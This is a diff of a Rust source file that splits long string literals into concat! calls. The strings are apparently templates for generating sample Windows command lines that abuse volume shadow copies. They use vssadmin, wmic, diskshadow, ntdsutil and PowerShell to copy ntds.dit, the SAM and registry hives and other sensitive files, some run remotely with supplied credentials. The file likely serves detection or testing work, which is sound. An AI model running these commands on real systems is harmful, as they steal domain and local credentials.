@@ -7,7 +7,10 @@ const VSSADMIN: &[&str] = &[
     r"{vss} create shadow /for={root}⏎copy {f} {outfile}⏎{vss} delete shadows /shadow={GUID}« /quiet»",
     r"{vss} list shadows⏎copy {f} {outfile}",
     r"{vss} create shadow /for=C: && type {f} > {outfile}",
-    r"{vss} Create Shadow /For=C:⏎«mklink /d {link.1} {shadow}\¦mklink /D {link.1} {shadow}\»⏎copy {f2} {outdir}",
+    concat!(
+        r"{vss} Create Shadow /For=C:⏎«mklink /d {link.1} {shadow}\¦mklink /D {link.1} {shadow}\»⏎copy ",
+        r"{f2} {outdir}",
+    ),
     r"echo {shadow} & copy {f} {outfile} & {vss} delete shadows /all /quiet",
 ];
 const LINK: &[&str] = &[
@@ -18,33 +21,69 @@ const LINK: &[&str] = &[
 ];
 const WMIC: &[&str] = &[
     r"{wmic} shadowcopy call create Volume='C:\'«&&¦ & ¦⏎»copy {f} {outfile}",
-    r#"{wmic} /node:"{host}" /user:"{user}" /password:"{password}" shadowcopy call create Volume='C:\'⏎copy {f} {outdir}"#,
-    r#"{wmic} /node:{host} /user:{domain}\{user} /password:{password} process call create "cmd /c copy {f} {outfile}""#,
+    concat!(
+        r#"{wmic} /node:"{host}" /user:"{user}" /password:"{password}" shadowcopy call create "#,
+        r"Volume='C:\'⏎copy {f} {outdir}",
+    ),
+    concat!(
+        r#"{wmic} /node:{host} /user:{domain}\{user} /password:{password} process call create "cmd /c "#,
+        r#"copy {f} {outfile}""#,
+    ),
     r"{wmic} shadowcopy get «DeviceObject¦ID,VolumeName»«⏎¦ && »copy {f} {outfile}",
 ];
 const DISKSHADOW: &[&str] = &[
     r"diskshadow« /s {dir}\{stem}.txt¦ -s {stem}.dsh»«⏎¦ && ¦ & »«copy¦robocopy /b¦xcopy» {dt} {outdir}",
-    r#"set context «persistent¦persistent nowriters¦volatile»⏎«set metadata {dir}\{stem}.cab⏎»add volume c: alias {stem.1}⏎create⏎expose %{stem.1}% z:⏎exec «"cmd.exe" /c¦»copy {dt} {outfile}⏎«delete shadows volume %{stem.1}%⏎»reset⏎exit"#,
+    concat!(
+        r"set context «persistent¦persistent nowriters¦volatile»⏎«set metadata {dir}\{stem}.cab⏎»add ",
+        r#"volume c: alias {stem.1}⏎create⏎expose %{stem.1}% z:⏎exec «"cmd.exe" /c¦»copy {dt} "#,
+        r"{outfile}⏎«delete shadows volume %{stem.1}%⏎»reset⏎exit",
+    ),
     r"begin backup⏎add volume C: alias {stem.1}⏎create⏎expose %{stem.1}% {link}⏎end backup⏎copy {dt} {outfile}",
     r"diskshadow.exe /s {dir}\{stem}.txt⏎reg query HKLM\SOFTWARE\{vendor}⏎copy {dt} {outfile}",
 ];
 
 const NTDSUTIL: &[&str] = &[
-    r#"ntdsutil snapshot "activate instance ntds" create quit quit⏎ntdsutil snapshot "mount {GUID}" quit quit⏎copy C:\$SNAP_{digit12}_VOLUMEC$\{t} {outfile}"#,
-    r#"ntdsutil "activate instance ntds" snapshot create "mount {GUID}" quit quit & copy C:\$SNAP_{digit12}_VOLUMEC$\{t} {outdir}"#,
+    concat!(
+        r#"ntdsutil snapshot "activate instance ntds" create quit quit⏎ntdsutil snapshot "mount "#,
+        r#"{GUID}" quit quit⏎copy C:\$SNAP_{digit12}_VOLUMEC$\{t} {outfile}"#,
+    ),
+    concat!(
+        r#"ntdsutil "activate instance ntds" snapshot create "mount {GUID}" quit quit & copy "#,
+        r"C:\$SNAP_{digit12}_VOLUMEC$\{t} {outdir}",
+    ),
     r"copy C:\$SNAP_{digit12}_VOLUMEC$\{t} {outfile}",
     r"copy \\{host}\C$\$SNAP_{digit12}_VOLUMEC$\{t} .",
 ];
 
 const PSVSS: &[&str] = &[
-    r#"$«class¦wmi¦vss»=(gwmi -list win32_shadowcopy).Create("C:\","ClientAccessible"); «[System.IO.File]::Copy('{f}','{outfile}')¦cmd /c copy {f} {outfile}»"#,
-    r#"(Get-WmiObject -List Win32_ShadowCopy).Create('C:\','ClientAccessible')⏎$s = Get-WmiObject Win32_ShadowCopy | «Select -Last 1¦Sort-Object InstallDate | Select-Object -Last 1»⏎cmd /c mklink /d {link.1} "$($s.DeviceObject)\"⏎Copy-Item {link.1}\{t} {psout}"#,
-    r"Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{Volume='C:\'«; Context='ClientAccessible'»}; [IO.File]::«Copy¦ReadAllBytes»('{f}'«,'{stem}'»)",
+    concat!(
+        r#"$«class¦wmi¦vss»=(gwmi -list win32_shadowcopy).Create("C:\","ClientAccessible"); "#,
+        r"«[System.IO.File]::Copy('{f}','{outfile}')¦cmd /c copy {f} {outfile}»",
+    ),
+    concat!(
+        r"(Get-WmiObject -List Win32_ShadowCopy).Create('C:\','ClientAccessible')⏎$s = Get-WmiObject ",
+        r"Win32_ShadowCopy | «Select -Last 1¦Sort-Object InstallDate | Select-Object -Last 1»⏎cmd /c ",
+        r#"mklink /d {link.1} "$($s.DeviceObject)\"⏎Copy-Item {link.1}\{t} {psout}"#,
+    ),
+    concat!(
+        r"Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{Volume='C:\'«; ",
+        r"Context='ClientAccessible'»}; [IO.File]::«Copy¦ReadAllBytes»('{f}'«,'{stem}'»)",
+    ),
     r"vssadmin create shadow /for=C:; Copy-Item -«Literal»Path '{f}' -Destination {psout}",
-    r#"$dev = (Get-CimInstance Win32_ShadowCopy)[«0¦-1»].DeviceObject; cmd.exe /c copy «"¦»$dev\{t}«"¦» {psout}"#,
+    concat!(
+        r#"$dev = (Get-CimInstance Win32_ShadowCopy)[«0¦-1»].DeviceObject; cmd.exe /c copy «"¦"#,
+        r#"»$dev\{t}«"¦» {psout}"#,
+    ),
     r#"[System.IO.File]::Copy("$($shadow.DeviceObject)\{t}", "{psdir}\{outname}"«, $true»)"#,
-    r#"for($i=1; $i -le {5..20}; $i++){ try { [System.IO.File]::Copy("\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$i\{t}", "{psdir}\{stem}$i") } catch {} }"#,
-    r#"1..{5..20} | % { «cmd /c copy¦[IO.File]::ReadAllBytes(» "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$_\{t}" «)¦{dir}» }"#,
+    concat!(
+        r"for($i=1; $i -le {5..20}; $i++){ try { ",
+        r#"[System.IO.File]::Copy("\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$i\{t}", "#,
+        r#""{psdir}\{stem}$i") } catch {} }"#,
+    ),
+    concat!(
+        r"1..{5..20} | % { «cmd /c copy¦[IO.File]::ReadAllBytes(» ",
+        r#""\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$_\{t}" «)¦{dir}» }"#,
+    ),
 ];
 
 const HIVE: &[(&str, &str)] = &[
@@ -55,7 +94,10 @@ const HIVE: &[(&str, &str)] = &[
     ("f2", r"{link.1}\Windows\System32\config\{whole}"),
     (
         "dt",
-        r"«z:\windows\system32\config\{whole}¦%{stem.1}%\Windows\System32\config\{secret}¦Z:\Windows\System32\config\SAM»",
+        concat!(
+            r"«z:\windows\system32\config\{whole}¦%{stem.1}%\Windows\System32\config\{secret}¦",
+            r"Z:\Windows\System32\config\SAM»",
+        ),
     ),
 ];
 const OTHER: &[(&str, &str)] = &[
@@ -64,12 +106,18 @@ const OTHER: &[(&str, &str)] = &[
     ("f", "{shadowother}"),
     (
         "t",
-        r"«Windows\NTDS\ntds.dit¦Windows\NTDS\NTDS.dit¦Users\{user}\Documents¦Windows\System32\config\SOFTWARE¦{stem}\{stem}.mdf¦inetpub\wwwroot\web.config»",
+        concat!(
+            r"«Windows\NTDS\ntds.dit¦Windows\NTDS\NTDS.dit¦Users\{user}\Documents¦",
+            r"Windows\System32\config\SOFTWARE¦{stem}\{stem}.mdf¦inetpub\wwwroot\web.config»",
+        ),
     ),
     ("f2", r"{link.1}\Windows\NTDS\ntds.dit"),
     (
         "dt",
-        r"«z:\windows\ntds\ntds.dit¦%{stem.1}%\{stem}\{stem}.vhdx¦Z:\{stem}\{stem}.bak¦Z:\Users\{user}\{stem}.pst»",
+        concat!(
+            r"«z:\windows\ntds\ntds.dit¦%{stem.1}%\{stem}\{stem}.vhdx¦Z:\{stem}\{stem}.bak¦",
+            r"Z:\Users\{user}\{stem}.pst»",
+        ),
     ),
 ];
 const VSS: &str = r"«vssadmin¦vssadmin.exe¦vssadmin¦C:\Windows\System32\vssadmin.exe¦VSSADMIN»";
